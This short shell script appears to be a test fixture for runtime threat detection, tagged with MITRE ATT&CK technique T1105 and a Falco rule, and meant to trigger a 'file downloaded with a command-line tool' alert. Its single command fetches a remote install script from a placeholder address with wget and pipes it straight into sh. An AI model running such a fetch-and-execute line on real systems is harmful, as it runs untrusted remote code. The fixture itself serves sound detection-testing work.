#!/bin/sh
# title: Script fetched and piped straight into a shell (wget -O- URL | sh)
# technique: T1105 Ingress Tool Transfer
# source: https://attack.mitre.org/techniques/T1105/ ; Falco "Launch Ingress Remote File Copy Tools in Container"
# expect: File downloaded with a command-line tool
/bin/wget -q -O- http://198.51.100.1:8000/install.sh | /bin/sh
true
